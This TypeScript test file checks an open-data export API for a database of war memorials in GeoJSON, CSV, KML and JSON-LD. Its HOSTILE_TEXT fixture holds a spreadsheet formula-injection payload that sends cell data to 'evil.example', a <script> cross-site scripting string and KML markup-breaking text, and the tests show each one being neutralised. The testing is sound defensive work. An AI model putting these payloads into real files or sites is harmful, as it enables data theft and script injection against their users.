import { check } from "@placemarkio/check-geojson";
import { kml as kmlToGeoJson } from "@tmcw/togeojson";
import { DOMParser } from "@xmldom/xmldom";
import { parse as parseCsv } from "csv-parse/sync";
import type { Feature, FeatureCollection, Geometry } from "geojson";
import { NextRequest } from "next/server";
import { beforeAll, describe, expect, it } from "vitest";
import type { EntryInput } from "@/lib/validation/entry";
import { setupTestDatabase } from "./test-database";

// The data layer binds to DATABASE_URL when "@/lib/db" is first loaded: import it only after this.
setupTestDatabase();
const { seedReferenceData } = await import("@/prisma/seed/seed-reference-data");
const { createEntry } = await import("@/lib/data/entries/create-entry");
const { upsertSource } = await import("@/lib/data/sources/upsert-source");
const { db } = await import("@/lib/db");
const { GET } = await import("@/app/api/v1/export/[file]/route");
const { exportResponse, EXPORT_FILES } = await import("@/lib/open-data/export-response");
const { fromCsvRecord } = await import("@/lib/open-data/csv-record");
const { warmExportWorker } = await import("@/lib/open-data/in-export-worker");

/** A hostile entry: every text a formula or markup, as a careless or malicious import might bring. */
const HOSTILE_TEXT = {
  title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  aliases: ["+1 555 0100", "@SUM(1+1)", "'=already quoted"],
  summary: "-2+3 <script>alert(1)</script> & </Placemark>",
  description: "\tTabbed\r\nand carriage return",
  placeName: "\rCR first",
};
const HOSTILE: EntryInput = {
  slug: "hostile-cells",
  kind: "memorial",
  status: "published",
  latitude: -33.8688,
  longitude: -151.2093,
  date: "-0044-03-15",
  translations: { en: HOSTILE_TEXT },
  citations: [{ sourceKey: "hostile-source", field: "title" }],
};

beforeAll(async () => {
  // As the server does after it starts: the first export should not wait for the worker to load.
  warmExportWorker();
  await seedReferenceData();
  await upsertSource({ key: "hostile-source", title: "Hostile", url: "https://example.org/=cmd" });
  await createEntry(HOSTILE);
  // The entry schema trims texts; data written another way may still start with a tab or a carriage return.
  await db.entryTranslation.updateMany({
    where: { entry: { slug: "hostile-cells" } },
    data: { description: HOSTILE_TEXT.description, placeName: HOSTILE_TEXT.placeName },
  });
}, 120_000);

async function get(file: string, query = "", headers: Record<string, string> = {}): Promise<Response> {
  return GET(new NextRequest(`http://localhost/api/v1/export/${file}${query ? `?${query}` : ""}`, { headers }), {
    params: Promise.resolve({ file }),
  });
}

async function publishedSlugs(where: object = {}): Promise<string[]> {
  const rows = await db.entry.findMany({ where: { status: "published", ...where }, select: { slug: true } });
  return rows.map((r) => r.slug).sort();
}

async function geojson(query = ""): Promise<FeatureCollection> {
  const response = await get("entries.geojson", query);
  expect(response.status).toBe(200);
  return check(await response.text()) as FeatureCollection;
}

function coordinates(feature: Feature<Geometry | null>): [number, number] | null {
  return feature.geometry?.type === "Point" ? [feature.geometry.coordinates[0]!, feature.geometry.coordinates[1]!] : null;
}

function csvRows(text: string): Record<string, string>[] {
  return parseCsv(text, { columns: true, bom: true, skip_empty_lines: true }) as Record<string, string>[];
}

describe("GeoJSON export", () => {
  it("is a valid RFC 7946 FeatureCollection of every published entry, lon/lat, with null geometry where there is no point", async () => {
    const response = await get("entries.geojson");
    expect(response.headers.get("content-type")).toBe("application/geo+json");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="memorial-entries.geojson"');
    expect(response.headers.get("cache-control")).toContain("must-revalidate");
    const collection = check(await response.text()) as FeatureCollection;
    expect(collection.type).toBe("FeatureCollection");
    expect(collection.features.map((f) => f.id).sort()).toEqual(await publishedSlugs());

    const rzhev = collection.features.find((f) => f.id === "rzhev-memorial")!;
    expect(rzhev.geometry).toMatchObject({ type: "Point" });
    const [longitude, latitude] = coordinates(rzhev)!;
    const stored = await db.entry.findUniqueOrThrow({ where: { slug: "rzhev-memorial" } });
    expect([longitude, latitude]).toEqual([stored.longitude, stored.latitude]);
    expect(rzhev.properties).toMatchObject({ slug: "rzhev-memorial", kind: "memorial", country: "RU" });
    expect(typeof rzhev.properties!.title_ru).toBe("string");
    expect(rzhev.properties!.url).toMatch(/\/en\/entries\/rzhev-memorial$/);

    const unplaced = await db.entry.findFirst({ where: { status: "published", latitude: null }, select: { slug: true } });
    expect(unplaced).not.toBeNull();
    expect(collection.features.find((f) => f.id === unplaced!.slug)!.geometry).toBeNull();
  });

  it("honours the explorer's filters", async () => {
    const memorials = await geojson("kinds=memorial");
    expect(memorials.features.map((f) => f.id).sort()).toEqual(await publishedSlugs({ kind: "memorial" }));

    const belarus = await geojson("countries=BY&require=coordinates");
    expect(belarus.features.map((f) => f.id).sort()).toEqual(["destruction-of-khatyn-1943", "khatyn-memorial"]);

    const search = await geojson("q=mamaev");
    expect(search.features.map((f) => f.id)).toEqual(["mamayev-kurgan"]);

    const theme = await geojson("tags=battles-of-rzhev&kinds=memorial");
    expect(theme.features.map((f) => f.id)).toEqual(["rzhev-memorial"]);

    const boxed = await geojson("bbox=30,50,40,60");
    expect(boxed.features.length).toBeGreaterThan(0);
    for (const feature of boxed.features) {
      const [lon, lat] = coordinates(feature)!;
      expect(lon >= 30 && lon <= 40 && lat >= 50 && lat <= 60).toBe(true);
    }

    const dated = await geojson("kinds=memorial&before=1979");
    expect(dated.features.length).toBeGreaterThan(0);
    for (const feature of dated.features) expect(Number(String(feature.properties!.date).slice(0, 4))).toBeLessThanOrEqual(1979);
  });

  it("exports one entry, and answers 404 for one that is not published", async () => {
    const one = await get("entries.geojson", "entry=khatyn-memorial");
    expect(one.headers.get("content-disposition")).toBe('attachment; filename="khatyn-memorial.geojson"');
    expect((check(await one.text()) as FeatureCollection).features.map((f) => f.id)).toEqual(["khatyn-memorial"]);

    const missing = await get("entries.geojson", "entry=no-such-entry");
    expect(missing.status).toBe(404);
    expect(missing.headers.get("content-type")).toBe("application/problem+json");
  });
});

describe("CSV export", () => {
  it("has the documented columns, both languages, EDTF dates and source addresses", async () => {
    const response = await get("entries.csv");
    expect(response.headers.get("content-type")).toMatch(/^text\/csv; charset=utf-8/);
    const text = await response.text();
    const rows = csvRows(text);
    expect(rows.map((r) => r.slug).sort()).toEqual(await publishedSlugs());
    const rzhev = rows.find((r) => r.slug === "rzhev-memorial")!;
    expect(rzhev.title_en).toBe("Rzhev Memorial to the Soviet Soldier");
    expect(rzhev.title_ru).toMatch(/Ржевский мемориал/);
    expect(rzhev.date).toMatch(/^\d{4}(-\d{2}(-\d{2})?)?$/);
    expect(rzhev.location_precision).toBe("exact");
    expect(rzhev.country).toBe("RU");
    expect(rzhev.sources!.split("\n").every((url) => /^https?:\/\//.test(url))).toBe(true);
  });

  it("neutralises formula cells for spreadsheets and reads them back unchanged", async () => {
    const rows = csvRows(await (await get("entries.csv", "entry=hostile-cells")).text());
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    expect(row.title_en).toBe(`'${HOSTILE_TEXT.title}`);
    expect(row.aliases_en!.split("\n")[0]).toBe("'+1 555 0100");
    expect(row.summary_en!.startsWith("'-2+3")).toBe(true);
    expect(row.description_en!.startsWith("'\t")).toBe(true);
    expect(row.place_name_en!.startsWith("'\r")).toBe(true);
    expect(row.date).toBe("'-0044-03-15");
    // Numbers are not formulas: a negative coordinate stays a number.
    expect(row.latitude).toBe("-33.8688");
    expect(row.longitude).toBe("-151.2093");
    for (const [name, cell] of Object.entries(row)) {
      if (name !== "latitude" && name !== "longitude") expect(cell, name).not.toMatch(/^[=+\-@\t\r]/);
    }

    const back = fromCsvRecord(row);
    expect(back.texts.en).toMatchObject({
      title: HOSTILE_TEXT.title,
      aliases: [...HOSTILE_TEXT.aliases],
      summary: HOSTILE_TEXT.summary,
      description: HOSTILE_TEXT.description,
      placeName: HOSTILE_TEXT.placeName,
    });
    expect(back).toMatchObject({ date: "-0044-03-15", latitude: -33.8688, longitude: -151.2093, sources: ["https://example.org/=cmd"] });
  });

  it("reads back as the same entries the GeoJSON export describes", async () => {
    const rows = csvRows(await (await get("entries.csv")).text());
    const features = (await geojson()).features;
    for (const row of rows) {
      const entry = fromCsvRecord(row);
      const feature = features.find((f) => f.id === entry.slug)!;
      const { latitude, longitude, ...rest } = Object.fromEntries(
        Object.entries(feature.properties!).filter(([name]) => name !== "url"),
      ) as Record<string, unknown>;
      expect(latitude).toBeUndefined();
      expect(longitude).toBeUndefined();
      expect([entry.longitude, entry.latitude]).toEqual(coordinates(feature) ?? [null, null]);
      expect(rest.slug).toBe(entry.slug);
      expect(rest.title_en).toBe(entry.texts.en?.title ?? "");
      expect(rest.aliases_ru).toEqual(entry.texts.ru?.aliases ?? []);
      expect(rest.sources).toEqual(entry.sources);
      expect(rest.date).toBe(entry.date);
    }
  });
});

describe("KML export", () => {
  it("parses back with togeojson: names in the asked language, times, escaped text, points lon/lat", async () => {
    const response = await get("entries.kml", "locale=ru");
    expect(response.headers.get("content-type")).toBe("application/vnd.google-earth.kml+xml");
    const text = await response.text();
    const document = new DOMParser().parseFromString(text, "text/xml");
    const collection = kmlToGeoJson(document as unknown as Document);
    const bySlug = new Map(collection.features.map((f) => [f.properties?.slug as string, f]));
    expect([...bySlug.keys()].sort()).toEqual(await publishedSlugs());

    const rzhev = bySlug.get("rzhev-memorial")!;
    expect(rzhev.properties?.name).toMatch(/Ржевский мемориал/);
    expect(rzhev.geometry).toMatchObject({ type: "Point" });
    const stored = await db.entry.findUniqueOrThrow({ where: { slug: "rzhev-memorial" } });
    expect(coordinates(rzhev)).toEqual([stored.longitude, stored.latitude]);
    expect(rzhev.properties?.timespan ?? rzhev.properties?.timestamp).toBeTruthy();

    const hostile = bySlug.get("hostile-cells")!;
    expect(hostile.properties?.name).toBe(HOSTILE_TEXT.title);
    expect(hostile.properties?.description).toContain("<script>alert(1)</script> & </Placemark>");
    expect(hostile.properties?.timestamp).toBe("-0044-03-15");
  });
});

describe("JSON-LD export", () => {
  it("is one schema.org graph with a node per entry", async () => {
    const request = new NextRequest("http://localhost/api/v1/export/entries.jsonld?kinds=memorial&locale=ru");
    const response = await exportResponse(request, EXPORT_FILES["entries.jsonld"]!, {
      openingNames: async () => (title) => `Открытие: ${title}`,
    });
    expect(response.headers.get("content-type")).toBe("application/ld+json");
    const document = JSON.parse(await response.text()) as { "@context": string; "@graph": Record<string, unknown>[] };
    expect(document["@context"]).toBe("https://schema.org");
    expect(document["@graph"]).toHaveLength((await publishedSlugs({ kind: "memorial" })).length);
    const rzhev = document["@graph"].find((node) => String(node.url).endsWith("/ru/entries/rzhev-memorial"))!;
    expect(rzhev).toMatchObject({ "@type": "LandmarksOrHistoricalBuildings", inLanguage: "ru" });
    expect(rzhev["@context"]).toBeUndefined();
    expect((rzhev.event as { name: string }).name).toMatch(/^Открытие: /);
    expect((rzhev.subjectOf as unknown[]).length).toBeGreaterThan(0);
  });
});

describe("caching and bad input", () => {
  it("answers 304 to a matching ETag, and a new ETag once an entry changes", async () => {
    const first = await get("entries.csv", "kinds=memorial");
    await first.text();
    const etag = first.headers.get("etag")!;
    expect(etag).toMatch(/^"v\d+-/);
    const again = await get("entries.csv", "kinds=memorial", { "if-none-match": etag });
    expect(again.status).toBe(304);
    expect(await again.text()).toBe("");
    // The same question in another order is the same answer.
    expect((await get("entries.csv", "kinds=memorial", { "if-none-match": `W/${etag}` })).status).toBe(304);
    expect((await get("entries.geojson", "kinds=memorial", { "if-none-match": etag })).status).toBe(200);

    await db.entry.update({ where: { slug: "khatyn-memorial" }, data: { wikidataId: "Q1" } });
    const changed = await get("entries.csv", "kinds=memorial", { "if-none-match": etag });
    expect(changed.status).toBe(200);
    expect(changed.headers.get("etag")).not.toBe(etag);
    await changed.text();
  });

  it("rejects bad parameters with a problem body listing each, and unknown files with 404", async () => {
    const response = await get("entries.geojson", "bbox=10,20,30&kinds=statue&from=2000&to=1900");
    expect(response.status).toBe(400);
    expect(response.headers.get("content-type")).toBe("application/problem+json");
    const problem = (await response.json()) as { errors: { path: string }[] };
    expect(problem.errors.map((e) => e.path).sort()).toEqual(expect.arrayContaining(["bbox", "kinds.0"]));
    expect((await get("entries.xlsx")).status).toBe(404);
  });
});
